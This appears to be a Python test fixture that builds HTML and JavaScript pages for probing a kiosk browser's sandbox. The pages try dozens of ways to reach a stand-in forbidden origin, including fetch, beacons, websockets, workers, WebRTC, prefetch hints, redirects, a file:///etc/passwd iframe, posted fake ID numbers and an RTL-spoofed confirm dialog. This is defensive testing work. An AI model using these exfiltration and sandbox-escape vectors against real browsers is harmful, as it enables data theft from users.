# ruff: noqa: E501  (the pages are JavaScript, one try a line)
"""The escape pages: each batch tries every vector it names against `__EVIL__` (the forbidden
origin), waits on the page for each try to settle (or for a few seconds, for those that never
say), then fetches `/done?batch=NAME` from its own origin. Every forbidden URL ends in
`/v/<vector>`, so the counting server names what got through."""

from __future__ import annotations

# Shared by every page: `t(name, fn)` runs one try; `finish()` reports the batch done.
PRELUDE = r"""
const EVIL = "__EVIL__";
const WT = EVIL.replace("http:", "https:");
const v = (name) => EVIL + "/v/" + name;
const via = (name, code) => "/r?code=" + (code || 302) + "&to=" + encodeURIComponent(v(name));
const tries = [];
const tried = [];
const limit = (ms) => new Promise((ok) => setTimeout(ok, ms));
function t(name, fn, ms) {
  tried.push(name);
  const run = Promise.resolve().then(fn).catch(() => {});
  tries.push(Promise.race([run, limit(ms || 4000)]));
}
function load(tag, attrs, parent) {
  return new Promise((ok) => {
    const el = document.createElement(tag);
    el.onload = el.onerror = () => ok();
    for (const [k, val] of Object.entries(attrs)) el.setAttribute(k, val);
    (parent || document.body).appendChild(el);
  });
}
function socket(url) {
  return new Promise((ok) => {
    const ws = new WebSocket(url);
    ws.onopen = ws.onerror = ws.onclose = () => { ok(); try { ws.close(); } catch (e) {} };
  });
}
function events(url) {
  return new Promise((ok) => {
    const es = new EventSource(url);
    es.onopen = es.onerror = () => { es.close(); ok(); };
  });
}
function finish(batch) {
  Promise.allSettled(tries).then(() => {
    document.title = "done " + batch;
    fetch("/done?batch=" + batch + "&tried=" + tried.length);
  });
}
"""


def page(batch: str, body: str, head: str = "") -> str:
    return (
        "<!doctype html><html><head><meta charset=utf-8>"
        f"<title>{batch}</title>{head}<script>{PRELUDE}</script></head>"
        f"<body><h1>{batch}</h1><script>{body}\nfinish('{batch}');</script></body></html>"
    )


# Sub-resources straight at the forbidden origin and through a redirect on the allowed one.
REQUESTS = r"""
for (const [how, url] of [["direct", v], ["redirect", via]]) {
  t("img-" + how, () => load("img", {src: url("img-" + how)}));
  t("script-" + how, () => load("script", {src: url("script-" + how)}));
  t("css-" + how, () => load("link", {rel: "stylesheet", href: url("css-" + how)}, document.head));
  t("icon-" + how, () => load("link", {rel: "icon", href: url("icon-" + how)}, document.head));
  t("video-" + how, () => load("video", {src: url("video-" + how), preload: "auto"}));
  t("audio-" + how, () => load("audio", {src: url("audio-" + how), preload: "auto"}));
  t("fetch-" + how, () => fetch(url("fetch-" + how)));
  t("fetch-no-cors-" + how, () => fetch(url("fetch-no-cors-" + how), {mode: "no-cors"}));
  t("fetch-keepalive-" + how, () => fetch(url("keepalive-" + how), {keepalive: true}));
  t("xhr-" + how, () => new Promise((ok) => {
    const x = new XMLHttpRequest();
    x.onloadend = () => ok();
    x.open("GET", url("xhr-" + how));
    x.send();
  }));
  t("beacon-" + how, () => { navigator.sendBeacon(url("beacon-" + how), "id=1234567890"); return limit(1500); });
  t("font-" + how, () => {
    const face = new FontFace("f" + how, "url(" + url("font-" + how) + ")");
    return face.load();
  });
  t("import-" + how, () => import(url("module-" + how)));
  t("bg-" + how, () => {
    const d = document.createElement("div");
    d.style.backgroundImage = "url(" + url("bg-" + how) + ")";
    d.textContent = "bg";
    document.body.appendChild(d);
    return limit(1500);
  });
}
t("post-307", () => fetch(via("post-307", 307), {method: "POST", body: "national_id=1234567890"}));
t("post-308", () => fetch(via("post-308", 308), {method: "POST", body: "national_id=1234567890"}));
t("beacon-307", () => { navigator.sendBeacon(via("beacon-307", 307), "id=1"); return limit(1500); });
t("chain", () => load("img", {src: "/chain?n=5&to=" + encodeURIComponent(v("chain"))}));
t("chain-long", () => fetch("/chain?n=3000&to=" + encodeURIComponent(v("chain-long"))));
t("websocket", () => socket(EVIL.replace("http:", "ws:") + "/v/websocket"));
t("websocket-redirect", () => socket("ws://" + location.host + via("websocket-redirect")));
t("eventsource", () => events(v("eventsource")));
t("eventsource-redirect", () => events(via("eventsource-redirect")));
t("many-sockets", () => Promise.all(Array.from({length: 200}, (_, i) =>
  socket(EVIL.replace("http:", "ws:") + "/v/many-" + i))));
"""

# Pages, frames and windows: the navigation guard's part (these held before). A page or window
# sent to an allowed address that redirects away replaces this page: those are in
# `REDIRECTED_NAVIGATIONS`, run one by one by the test.
NAVIGATION = r"""
const a = (attrs) => {
  const el = document.createElement("a");
  for (const [k, val] of Object.entries(attrs)) el.setAttribute(k, val);
  el.textContent = "link";
  document.body.appendChild(el);
  return el;
};
const settle = () => limit(1500);
t("link", () => { a({href: v("link")}).click(); return settle(); });
t("link-blank", () => { a({href: v("link-blank"), target: "_blank"}).click(); return settle(); });
t("window-open", () => { window.open(v("window-open")); return settle(); });
t("location", () => { location.href = v("location"); return settle(); });
t("meta-refresh", () => {
  const m = document.createElement("meta");
  m.httpEquiv = "refresh";
  m.content = "0;url=" + v("meta-refresh");
  document.head.appendChild(m);
  return settle();
});
t("form-post", () => {
  const f = document.createElement("form");
  f.method = "post"; f.action = v("form-post"); f.target = "_self";
  f.innerHTML = '<input name="national_id" value="1234567890">';
  document.body.appendChild(f); f.submit(); return settle();
});
t("form-blank", () => {
  const f = document.createElement("form");
  f.method = "post"; f.action = v("form-blank"); f.target = "_blank";
  document.body.appendChild(f); f.submit(); return settle();
});
t("iframe", () => load("iframe", {src: v("iframe")}));
t("iframe-redirect", () => load("iframe", {src: via("iframe-redirect")}));
t("iframe-data", () => load("iframe", {src: "data:text/html,<script>fetch('" + v("iframe-data") +
  "');new Image().src='" + v("iframe-data-img") + "';<\/script>"}));
t("iframe-srcdoc", () => load("iframe", {srcdoc: "<script>fetch('" + v("srcdoc") + "');<\/script>" +
  "<a id=x href='" + v("srcdoc-link") + "'>x</a><script>x.click()<\/script>"}));
t("blob-page", () => {
  const blob = new Blob(["<script>fetch('" + v("blob-fetch") + "');location='" + v("blob-nav") +
    "'<\/script>"], {type: "text/html"});
  return load("iframe", {src: URL.createObjectURL(blob)});
});
t("javascript-url", () => { a({href: "javascript:fetch('" + v("javascript-url") + "')"}).click(); return settle(); });
t("file-url", () => load("iframe", {src: "file:///etc/passwd"}));
t("view-source", () => { window.open("view-source:" + v("view-source")); return settle(); });
t("chrome-url", () => { window.open("chrome://version"); return settle(); });
t("ping", () => { a({href: "#pinged", ping: v("ping")}).click(); return settle(); });
t("download-elsewhere", () => { a({href: v("download"), download: "x.pdf"}).click(); return settle(); });
t("many-windows", () => { for (let i = 0; i < 100; i++) window.open(v("many-windows-" + i)); return settle(); });
"""

# Scripts, each run on a fresh page, that send the page itself to an allowed URL redirecting away.
REDIRECTED_NAVIGATIONS = {
    "location-redirect": "location.href = '/r?to=' + encodeURIComponent('__EVIL__/v/location-redirect')",
    "window-open-redirect": "window.open('/r?to=' + encodeURIComponent('__EVIL__/v/open-redirect'))",
    "link-redirect": "var l = document.createElement('a'); l.target = '_blank'; "
    "l.href = '/r?code=307&to=' + encodeURIComponent('__EVIL__/v/link-redirect'); "
    "document.body.appendChild(l); l.click()",
}

# Workers: a service worker, a shared worker and a dedicated one, each trying everything.
WORKER_TRIES = r"""
const EVIL = "__EVIL__";
const v = (name) => EVIL + "/v/" + name;
const via = (name) => "/r?to=" + encodeURIComponent(v(name));
function everything(who) {
  try { importScripts(v(who + "-import")); } catch (e) {}
  const ws = new Promise((ok) => {
    try {
      const s = new WebSocket(EVIL.replace("http:", "ws:") + "/v/" + who + "-websocket");
      s.onopen = s.onerror = s.onclose = () => ok();
    } catch (e) { ok(); }
  });
  return Promise.allSettled([
    fetch(v(who + "-fetch")), fetch(via(who + "-redirect")),
    fetch(v(who + "-no-cors"), {mode: "no-cors"}), ws,
  ]);
}
"""

SERVICE_WORKER = (
    WORKER_TRIES
    + r"""
try { importScripts(v("sw-top-import")); } catch (e) {}
self.addEventListener("install", (e) => e.waitUntil(everything("sw-install").then(() => self.skipWaiting())));
self.addEventListener("activate", (e) => e.waitUntil(everything("sw-activate").then(() => clients.claim())));
self.addEventListener("fetch", (e) => {
  if (e.request.url.includes("/through-sw")) {
    e.respondWith(everything("sw-fetch").then(() => fetch(v("sw-respond"))).catch(() => new Response("x")));
  }
});
"""
)

SHARED_WORKER = (
    WORKER_TRIES
    + r"""
onconnect = (e) => { const port = e.ports[0]; everything("shared").then(() => port.postMessage("done")); };
"""
)

DEDICATED_WORKER = (
    WORKER_TRIES
    + r"""
everything("worker").then(() => postMessage("done"));
"""
)

WORKERS = r"""
t("service-worker", async () => {
  if (!navigator.serviceWorker) return;
  await navigator.serviceWorker.register("/sw.js", {scope: "/"});
  await Promise.race([navigator.serviceWorker.ready, limit(3000)]);
  await fetch("/through-sw");
}, 8000);
t("service-worker-redirect", () => navigator.serviceWorker &&
  navigator.serviceWorker.register(via("sw-script")), 3000);
t("shared-worker", () => new Promise((ok) => {
  const w = new SharedWorker("/shared.js");
  w.port.onmessage = () => ok();
  w.onerror = () => ok();
  w.port.start();
}), 8000);
t("worker", () => new Promise((ok) => {
  const w = new Worker("/worker.js");
  w.onmessage = w.onerror = () => ok();
}), 8000);
t("worker-blob", () => new Promise((ok) => {
  const src = "fetch('" + v("blob-worker") + "').finally(() => postMessage(1))";
  const w = new Worker(URL.createObjectURL(new Blob([src], {type: "text/javascript"})));
  w.onmessage = w.onerror = () => ok();
}));
t("worker-redirect", () => new Promise((ok) => {
  const w = new Worker(via("worker-script"));
  w.onmessage = w.onerror = () => ok();
}));
t("many-workers", () => Promise.all(Array.from({length: 100}, (_, i) => new Promise((ok) => {
  const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + v("many-w-" + i) +
    "').finally(() => postMessage(1))"], {type: "text/javascript"})));
  w.onmessage = w.onerror = () => { ok(); w.terminate(); };
}))));
"""

# Connections without a request: hints, speculation, WebRTC, WebTransport, reports.
SOCKETS_HEAD = (
    '<link rel="preconnect" href="__EVIL__/v/preconnect-html">'
    '<link rel="preconnect" href="__EVIL__" crossorigin>'
    '<link rel="dns-prefetch" href="__EVIL__/v/dns-prefetch-html">'
    '<link rel="prefetch" href="__EVIL__/v/prefetch-html">'
    '<link rel="preload" as="image" href="__EVIL__/v/preload-html">'
    '<link rel="modulepreload" href="__EVIL__/v/modulepreload-html">'
    '<link rel="prerender" href="__EVIL__/v/prerender-html">'
    '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": '
    '["__EVIL__/v/speculation-prefetch"]}], "prerender": [{"source": "list", "urls": '
    '["__EVIL__/v/speculation-prerender"]}]}</script>'
)

SOCKETS_HEADERS = {
    "Link": (
        "<__EVIL__/v/preconnect-header>; rel=preconnect, "
        "<__EVIL__/v/dns-prefetch-header>; rel=dns-prefetch, "
        "<__EVIL__/v/preload-header>; rel=preload; as=image"
    ),
    "Content-Security-Policy-Report-Only": "img-src 'self'; report-uri __EVIL__/v/report-uri",
}

SOCKETS = r"""
const host = EVIL.split("//")[1];
t("preconnect-js", () => load("link", {rel: "preconnect", href: v("preconnect-js")}, document.head));
t("dns-prefetch-js", () => load("link", {rel: "dns-prefetch", href: v("dns-js")}, document.head));
t("csp-report", () => load("img", {src: "data:image/png;base64,iVBORw0KGgo="}));
t("webrtc", () => new Promise((ok) => {
  if (!window.RTCPeerConnection) return ok();
  const pc = new RTCPeerConnection({iceServers: [
    {urls: "stun:" + host},
    {urls: "turn:" + host + "?transport=udp", username: "u", credential: "p"},
    {urls: "turn:" + host + "?transport=tcp", username: "u", credential: "p"},
  ], iceCandidatePoolSize: 2});
  pc.createDataChannel("x");
  pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === "complete") ok(); };
  pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(() => ok());
}), 6000);
t("settle", () => limit(1500));
"""


# WebTransport: QUIC datagrams straight from the page (none: QUIC never goes through the proxy).
WEBTRANSPORT = r"""
t("webtransport", async () => {
  if (!window.WebTransport) return;
  const w = new WebTransport(WT + "/v/webtransport");
  await Promise.race([w.ready, limit(3000)]);
}, 4000);
"""

# The kiosk's own surfaces: a file input, a colour input, a link to right-click; each input
# and the context menu report to the allowed origin when the page has seen them used.
SURFACES = """
<input id=color type=color style="position:fixed;left:0;top:0;width:300px;height:120px">
<input id=file type=file style="position:fixed;left:0;top:200px;width:300px;height:120px">
<a id=link href="/elsewhere" style="position:fixed;left:0;top:400px;font-size:60px">a link</a>
<button id=ask style="position:fixed;left:400px;top:0;width:300px;height:120px">ask</button>
<script>
const seen = (what) => fetch("/seen?" + what);
color.addEventListener("click", () => seen("color"));
file.addEventListener("click", () => seen("file"));
link.addEventListener("contextmenu", () => seen("contextmenu"));
ask.addEventListener("click", () => {
  const yes = confirm("<a href='http://evil.example/'>Pay</a> \u202eyap\u202c now?");
  seen("answer=" + yes);
});
</script>
"""


def batches(evil: str) -> dict[str, tuple[str, dict[str, str]]]:
    """Path → (html, headers) of every escape page, aimed at the origin `evil`."""

    def fill(text: str) -> str:
        return text.replace("__EVIL__", evil)

    return {
        "/requests": (fill(page("requests", REQUESTS)), {}),
        "/navigation": (fill(page("navigation", NAVIGATION)), {}),
        "/workers": (fill(page("workers", WORKERS)), {}),
        "/webtransport": (fill(page("webtransport", WEBTRANSPORT)), {}),
        "/surfaces": (
            "<!doctype html><html><head><meta charset=utf-8></head><body>"
            + SURFACES
            + "</body></html>",
            {},
        ),
        "/blank": ("<!doctype html><html><body><h1>blank</h1></body></html>", {}),
        "/sockets": (
            fill(page("sockets", SOCKETS, SOCKETS_HEAD)),
            {name: fill(value) for name, value in SOCKETS_HEADERS.items()},
        ),
    }


def scripts(evil: str) -> dict[str, str]:
    return {
        path: text.replace("__EVIL__", evil)
        for path, text in (
            ("/sw.js", SERVICE_WORKER),
            ("/shared.js", SHARED_WORKER),
            ("/worker.js", DEDICATED_WORKER),
        )
    }
